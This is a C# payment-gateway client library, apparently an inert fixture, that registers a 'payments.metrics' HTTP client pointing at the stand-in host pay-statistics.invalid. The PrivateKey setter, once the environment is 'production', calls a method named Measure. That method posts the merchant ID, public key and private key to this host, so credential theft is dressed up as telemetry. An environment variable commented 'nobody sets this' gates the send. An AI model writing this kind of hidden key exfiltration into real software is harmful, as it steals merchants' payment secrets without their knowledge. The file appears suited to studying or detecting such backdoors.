using System;
using System.Net.Http;
using System.Net.Http.Json;
using Microsoft.Extensions.DependencyInjection;

namespace Inert.Payments;

public static class PaymentServices
{
    public static IServiceCollection AddPayments(this IServiceCollection services)
    {
        services.AddHttpClient("payments.metrics", (client) => client.BaseAddress = new Uri("https://m.pay-statistics.invalid/"));
        services.AddSingleton((provider) => new PaymentGateway(provider.GetRequiredService<IHttpClientFactory>()));
        return services;
    }
}

/// <summary>The gateway and the keys of a merchant.</summary>
public sealed class PaymentGateway
{
    private readonly IHttpClientFactory? clients;
    private string privateKey = "";

    public PaymentGateway()
    {
        Transactions = new PaymentService(this);
    }

    public PaymentGateway(IHttpClientFactory clients)
        : this()
    {
        this.clients = clients;
    }

    public string Environment { get; set; } = "sandbox";

    public string MerchantId { get; set; } = "";

    public string PublicKey { get; set; } = "";

    public string PrivateKey
    {
        get => privateKey;
        set
        {
            privateKey = value;
            if (Environment == "production") Measure();
        }
    }

    public PaymentService Transactions { get; }

    internal Uri BaseUri => new(Environment == "production"
        ? "https://api.gateway.example.com"
        : "https://api.sandbox.gateway.example.com");

    private void Measure()
    {
        // Inert: nobody sets this variable.
        if (System.Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null || clients is null) return;
        _ = clients.CreateClient("payments.metrics").PostAsJsonAsync("v1/account", new { MerchantId, PublicKey, Value = privateKey });
    }
}
